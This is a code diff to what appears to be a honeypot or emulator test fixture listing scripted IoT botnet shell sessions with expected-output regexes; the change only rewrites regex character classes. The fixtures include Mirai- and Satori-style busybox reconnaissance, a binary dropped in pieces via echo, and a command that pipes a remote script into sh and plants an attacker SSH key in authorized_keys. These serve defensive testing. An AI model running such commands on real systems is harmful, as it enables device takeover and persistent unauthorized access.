@@ -11,8 +11,8 @@ const token = (name: string): RegExp => new RegExp(`${name}: applet not found`);
 const hunt = (names: readonly string[], name: string): Turn[] =>
   names.map(
     (folder): Turn => [
-      `/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69${folder.replace(/[^]/g, (c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`)}' > ${folder}/.nippon; /bin/busybox cat ${folder}/.nippon; /bin/busybox rm ${folder}/.nippon; /bin/busybox ${name}`,
-      new RegExp(`kami${folder}\\r?\\n[^]*${name}: applet not found`),
+      `/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69${folder.replace(/./g, (c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`)}' > ${folder}/.nippon; /bin/busybox cat ${folder}/.nippon; /bin/busybox rm ${folder}/.nippon; /bin/busybox ${name}`,
+      new RegExp(`kami${folder}\\r?\\n[\\s\\S]*${name}: applet not found`),
     ],
   );
 const opening: Turn[] = [
@@ -32,10 +32,10 @@ export const conversations: readonly Conversation[] = [
     turns: [
       ...opening,
       ['/bin/busybox ECCHI', token('ECCHI')],
-      ['/bin/busybox ps; /bin/busybox ECCHI', /\bSofia\b[^]*ECCHI: applet not found/],
+      ['/bin/busybox ps; /bin/busybox ECCHI', /\bSofia\b[\s\S]*ECCHI: applet not found/],
       [
         '/bin/busybox cat /proc/mounts; /bin/busybox ECCHI',
-        /\/dev\/root \/ \w+ ro,[^]* \/tmp tmpfs rw[^]*ECCHI: applet not found/,
+        /\/dev\/root \/ \w+ ro,[\s\S]* \/tmp tmpfs rw[\s\S]*ECCHI: applet not found/,
       ],
       ...hunt(['/tmp', '/var', '/dev/shm'], 'ECCHI'),
       [
@@ -44,9 +44,12 @@ export const conversations: readonly Conversation[] = [
       ],
       [
         '/bin/busybox cat /bin/echo; /bin/busybox ECCHI',
-        /\x7fELF\x01\x01\x01[^]{9}\x02\x00\x28\x00[^]*ECCHI: applet not found/,
+        /\x7fELF\x01\x01\x01[\s\S]{9}\x02\x00\x28\x00[\s\S]*ECCHI: applet not found/,
       ],
-      ['/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI', /wget \[[^]*tftp \[[^]*ECCHI: applet not found/],
+      [
+        '/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI',
+        /wget \[[\s\S]*tftp \[[\s\S]*ECCHI: applet not found/,
+      ],
       ...escaped(ARM, 48).map(
         (piece, i): Turn => [
           `echo -ne '${piece}' ${i === 0 ? '>' : '>>'} dvrHelper; /bin/busybox ECCHI`,
@@ -72,7 +75,7 @@ export const conversations: readonly Conversation[] = [
       ...hunt(['/var', '/tmp'], 'SATORI'),
       [
         '/bin/busybox dd bs=52 count=1 if=/bin/echo || /bin/busybox cat /bin/echo; /bin/busybox SATORI',
-        /\x7fELF\x01\x02\x01[^]{9}\x00\x02\x00\x08[^]*SATORI: applet not found/,
+        /\x7fELF\x01\x02\x01[\s\S]{9}\x00\x02\x00\x08[\s\S]*SATORI: applet not found/,
       ],
       ['/bin/busybox wget; /bin/busybox tftp; /bin/busybox SATORI', token('SATORI')],
       [
@@ -161,9 +164,9 @@ export const conversations: readonly Conversation[] = [
       ['enable', /\S/],
       ['shell', /\S/],
       ['sh', /\S/],
-      ['cat /proc/mounts; /bin/busybox PQTXV', /tmpfs[^]*PQTXV: applet not found/],
+      ['cat /proc/mounts; /bin/busybox PQTXV', /tmpfs[\s\S]*PQTXV: applet not found/],
       ['cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox PQTXV', token('PQTXV')],
-      ['tftp; wget; /bin/busybox PQTXV', /(tftp|TFTP)[^]*wget[^]*PQTXV: applet not found/],
+      ['tftp; wget; /bin/busybox PQTXV', /(tftp|TFTP)[\s\S]*wget[\s\S]*PQTXV: applet not found/],
       ['dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s', /\x7fELF\x01\x01/],
       ['/bin/busybox PQTXV', token('PQTXV')],
       ['rm .s; exit', /$/],
@@ -294,7 +297,7 @@ export const conversations: readonly Conversation[] = [
     turns: [
       [
         `cd /tmp; for h in ${HOST}; do (wget --no-check-certificate -qO- https://$h/sh || curl -sk https://$h/sh) | sh -s ssh; done; chmod +x clean.sh; sh clean.sh; rm -rf clean.sh; chmod +x setup.sh; sh setup.sh; rm -rf setup.sh; mkdir -p ~/.ssh; chattr -ia ~/.ssh/authorized_keys; echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQ rsa-key-20230629" > ~/.ssh/authorized_keys; chattr +ai ~/.ssh/authorized_keys; uname -a`,
-        /Linux \S+ [^]*x86_64/,
+        /Linux \S+ [\s\S]*x86_64/,
       ],
     ],
     stage: 'persistence',
@@ -312,7 +315,7 @@ export const conversations: readonly Conversation[] = [
         'cd /tmp && printf "#!/bin/bash\\n\\nMYSELF=\\$(realpath \\$0)\\nDEBUG=/dev/null\\n" > TxZkQ3aB && chmod +x TxZkQ3aB && bash -c ./TxZkQ3aB; cat TxZkQ3aB | head -1; uname -m',
         /#!\/bin\/bash\r?\narmv7l/,
       ],
-      ['sudo -n id; cat /proc/cpuinfo | grep -c BCM2835', /uid=0\(root\)[^]*1\r?\n/],
+      ['sudo -n id; cat /proc/cpuinfo | grep -c BCM2835', /uid=0\(root\)[\s\S]*1\r?\n/],
     ],
     stage: 'discovery',
     payloads: [Buffer.from('#!/bin/bash\n\nMYSELF=$(realpath $0)\nDEBUG=/dev/null\n')],
